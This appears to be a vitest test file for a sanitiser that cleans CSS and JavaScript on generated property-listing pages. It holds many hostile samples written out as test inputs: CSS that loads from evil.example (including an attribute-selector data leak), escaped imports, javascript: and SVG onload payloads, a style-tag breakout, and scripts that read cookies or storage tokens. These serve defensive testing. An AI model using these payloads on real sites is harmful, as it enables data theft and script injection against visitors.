import { describe, expect, test } from 'vitest';
import { assetOf } from '#tests/fixtures/hotsite.ts';
import { checkJs } from './check-js.ts';
import { Notes } from './notes.ts';
import { rebuildCss, rebuildStyleAttribute } from './rebuild-css.ts';

function css(source: string) {
  const notes = new Notes();
  const assets = new Map([['a1', assetOf('a1')]]);
  const context = { notes, assets, textAllowed: (text: string) => !/\d/.test(text) };
  const style = rebuildStyleAttribute(source, { ...context, notes: new Notes() });
  return { css: rebuildCss(source, context), style, notes };
}

describe('hostile CSS', () => {
  test.each([
    ['an import', '@import "https://evil.example/x.css";'],
    ['an import written with escapes', '@\\69mport "https://evil.example/x.css";'],
    ['an import by address', '@import url(//evil.example/x.css);'],
    ['a font of a foreign host', '@font-face{font-family:x;src:url(https://evil.example/x.woff2)}'],
    ['a character set', '@charset "utf-7";'],
    ['a namespace', '@namespace url(https://evil.example);'],
    ['an address', 'a{background:url(https://evil.example/x.png)}'],
    ['an address in quotes', 'a{background:url("https://evil.example/x.png")}'],
    ['an address without a scheme', 'a{background:url(//evil.example/x.png)}'],
    ['an address written with escapes', 'a{background:u\\72l(https://evil.example/x.png)}'],
    ['an address written with hex escapes', 'a{background:\\75\\72\\6c(https://evil.example/x.png)}'],
    ['a set of addresses', 'a{background:image-set("https://evil.example/x.png" 1x)}'],
    ['an address in a custom property', 'a{--b:url(https://evil.example/x.png);background:var(--b)}'],
    ['an address that reads an attribute', 'input[value^=a]{background:url(https://evil.example/?a)}'],
    ['an address in a cursor', 'a{cursor:url(https://evil.example/x.cur),auto}'],
    ['an address in a filter', 'a{filter:url(https://evil.example/x.svg#f)}'],
    ['an address in content', 'a::before{content:url(https://evil.example/x.png)}'],
    ['an address in a nested rule', 'a{&:hover{background:url(https://evil.example/x.png)}}'],
    ['an address in a media query', '@media (width>1px){a{background:url(https://evil.example/x.png)}}'],
    [
      'an address in a supports query',
      '@supports (background:url(https://evil.example/x.png)){a{color:red}}',
    ],
    ['a script address', 'a{background:url(javascript:alert(1))}'],
    ['a data address', 'a{background:url("data:image/svg+xml,<svg onload=alert(1)>")}'],
    ['an expression', 'a{width:expression(alert(1))}'],
    ['a behaviour', 'a{behavior:url(x.htc)}'],
    ['a binding', 'a{-moz-binding:url(x.xml#a)}'],
    ['a picture nobody knows', 'a{background:url(asset:zz)}'],
    ['a rule cut short', 'a{background:url(https://evil.example/x.png'],
  ])('PUB-10 %s does not get through', (_name, source) => {
    const result = css(source);
    expect(result.css).not.toMatch(
      /evil|import|url\s*\(|expression|behavior|binding|javascript|charset|namespace/i,
    );
    expect(result.style).not.toMatch(/evil|expression|behavior|binding|javascript/i);
  });

  test('a text cannot end the element the sheet stands in', () => {
    expect(css('a::before{content:"</style><script>alert(1)</script>"}').css).not.toContain('</');
    expect(css('a::before{content:"<!--"}').css).not.toContain('<!--');
  });

  test('figures the record does not hold are not shown by a style either', () => {
    expect(css('a::before{content:"R$ 1"}.b::after{content:"→"}').css).toBe(
      'a::before{}.b::after{content:"→"}',
    );
  });

  test('the modern language comes through as it was written', () => {
    const source =
      ':root{--cor:#123456}@media (width>=48em){.a{display:grid;gap:clamp(1rem,2vw,3rem)}}' +
      '@supports (animation-timeline:view()){.a{animation:x linear both;animation-timeline:view()}}' +
      '@keyframes x{from{opacity:0}to{opacity:1}}@container (width>20em){.c:has(img)>p{color:color-mix(in oklab,red 20%,blue)}}' +
      'body:has([data-corretor=whatsapp]){padding-bottom:4rem}.p{clip-path:path("M0 0L1 1Z")}.g{background:url(asset:a1)}';
    const result = css(source);
    expect([...result.notes.repaired.keys()]).toEqual([]);
    for (const part of [
      '@media',
      '@supports',
      '@keyframes',
      '@container',
      'color-mix',
      ':has(',
      'path(',
      'asset:a1',
    ])
      expect(result.css).toContain(part);
  });
});

function faults(source: string): string[] {
  const notes = new Notes();
  checkJs(source, notes);
  return [...notes.refused.values()].map(({ message }) => message);
}

describe('hostile JavaScript', () => {
  test.each([
    ['going elsewhere', 'location = "/x"'],
    ['going elsewhere by window', 'window.location.href = x'],
    ['going elsewhere by document', 'document.location.assign(x)'],
    ['going elsewhere by self', 'self.location.replace(x)'],
    ['going elsewhere by top', 'top.location = x'],
    ['going elsewhere by this', 'this.location = x'],
    ['going elsewhere by a computed name', 'window["location"] = x'],
    ['going elsewhere by a built name', 'window["loc" + "ation"] = x'],
    ['going elsewhere by a template', `window[\`loc\${"ation"}\`] = x`],
    ['going elsewhere by a joined name', 'this[["loc","ation"].join("")] = x'],
    ['going elsewhere by unpacking', 'const { location: l } = window'],
    ['going elsewhere by unpacking a computed name', 'const { ["loc" + "ation"]: l } = document'],
    ['going elsewhere from an element', 'el.ownerDocument.defaultView.location = x'],
    ['going elsewhere with navigation', 'navigation.navigate(x)'],
    ['writing a link', 'document.querySelector("a").href = x'],
    ['writing a link as attribute', 'a.setAttribute("href", x)'],
    ['writing an attribute of variable name', 'a.setAttribute(n, x)'],
    ['handing the window on', 'const w = window; w[k] = 1'],
    ['handing the document on', 'f(document)'],
    ['handing the global object on', 'f(globalThis)'],
    ['history', 'history.pushState({}, "", "/admin")'],
    ['opening', 'open("x")'],
    ['opening by window', 'window.open(x)'],
    ['fetch', 'fetch("/api/corretores")'],
    ['fetch by window', 'window.fetch(x)'],
    ['XMLHttpRequest', 'new XMLHttpRequest()'],
    ['a web socket', 'new WebSocket(x)'],
    ['an event source', 'new EventSource(x)'],
    ['a beacon', 'navigator.sendBeacon(x)'],
    ['peer connections', 'new RTCPeerConnection()'],
    ['local storage', 'localStorage.getItem("token")'],
    ['local storage by window', 'window.localStorage.token'],
    ['a cookie', 'document.cookie'],
    ['a database', 'indexedDB.open("x")'],
    ['caches', 'caches.open("x")'],
    ['eval', 'eval("1")'],
    ['indirect eval', '(0, eval)("1")'],
    ['Function', 'new Function("return 1")()'],
    ['Function by constructor', '[].filter.constructor("return 1")()'],
    ['a timer with a text', 'setTimeout("alert(1)")'],
    ['a timer with a built text', 'setInterval("a" + b)'],
    ['import', 'import("/x.js")'],
    ['a module', 'import x from "/x.js"'],
    ['a worker', 'new Worker("/x.js")'],
    ['a service worker', 'navigator.serviceWorker.register("/x.js")'],
    ['the opener', 'opener.postMessage(1, "*")'],
    ['the parent', 'parent.x()'],
    ['messages', 'window.postMessage(1)'],
    ['writing the document', 'document.write("x")'],
    ['innerHTML', 'el.innerHTML = x'],
    ['insertAdjacentHTML', 'el.insertAdjacentHTML("beforeend", x)'],
    ['srcdoc', 'frame.srcdoc = x'],
    ['a script element', 'document.createElement("script")'],
    ['an iframe', 'document.createElement("IFRAME")'],
    ['an element of variable name', 'document.createElement(x)'],
    ['a form sent', 'document.forms[0].submit()'],
    ['an event handler as text', 'el.onclick = "alert(1)"'],
    ['an event attribute', 'el.setAttribute("onclick", "x()")'],
    ['a parser', 'new DOMParser()'],
    ['a foreign address', 'img.src = "https://evil.example/x.png"'],
    ['a foreign address without a scheme', 'img.src = "//evil.example/x.png"'],
    ['a foreign address in a template', `img.src = \`https://evil.example/\${x}\``],
    ['WhatsApp of somebody else', 'const w = "wa.me/5511999998888"'],
    ['markup in a text', 'const t = "<img src=x>"'],
    ['a price', 'el.textContent = "R$ 450.000"'],
    ['a figure', 'el.textContent = "63 m²"'],
    ['a telephone', 'el.textContent = "11999998888"'],
    ['Reflect', 'Reflect.get(x, y)'],
    ['base64', 'atob("bG9jYXRpb24=")'],
    ['text out of codes', 'String.fromCharCode(108)'],
    ['with', 'with (x) {}'],
    ['rubbish', 'function ('],
    ['a shadow elsewhere', 'function f(open) {} open(x)'],
  ])('T1 %s is refused', (_name, source) => {
    expect(faults(source)).not.toEqual([]);
  });

  test('the line is told', () => {
    expect(faults('const a = 1;\n\nfetch(a);')).toEqual(['Linha 3 do script: usa fetch']);
    expect(faults('const a = 1;\nfunction (')[0]).toMatch(/^Linha 2 do script: não pode ser lido/);
  });

  test('what a page is made of gets through', () => {
    const source = `
      (() => {
        const dialog = document.createElement('dialog');
        const items = [...document.querySelectorAll('[data-foto]')];
        let index = 0;
        const open = (i) => { index = i; dialog.showModal(); draw(); };
        const close = () => dialog.close();
        function draw() {
          const img = items[index % items.length];
          const copy = img.closest('picture')?.cloneNode(true);
          if (copy) dialog.replaceChildren(copy);
          dialog.setAttribute('aria-label', img.alt);
          img.style.transform = \`translate(\${index}px, 0) scale(2)\`;
          const { top, left } = img.getBoundingClientRect();
          counter.textContent = (index + 1) + ' de ' + items.length;
          img.src = img.dataset.full;
        }
        const counter = document.createElement('p');
        items.forEach((item, i) => item.addEventListener('click', (event) => { event.preventDefault(); open(i); }));
        dialog.onclick = close;
        window.addEventListener('keydown', ({ key }) => { if (key === 'ArrowRight') open(index + 1); });
        if (window.matchMedia('(prefers-reduced-motion: reduce)').matches) return;
        const seen = new IntersectionObserver((entries) => entries.forEach((e) => e.target.classList.toggle('visto', e.isIntersecting)));
        items.forEach((item) => seen.observe(item));
        requestAnimationFrame(draw);
        setTimeout(draw, 100);
        const icon = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
        if ('IntersectionObserver' in window && typeof window !== 'undefined') document.body.append(dialog, icon);
      })();`;
    expect(faults(source)).toEqual([]);
  });
});
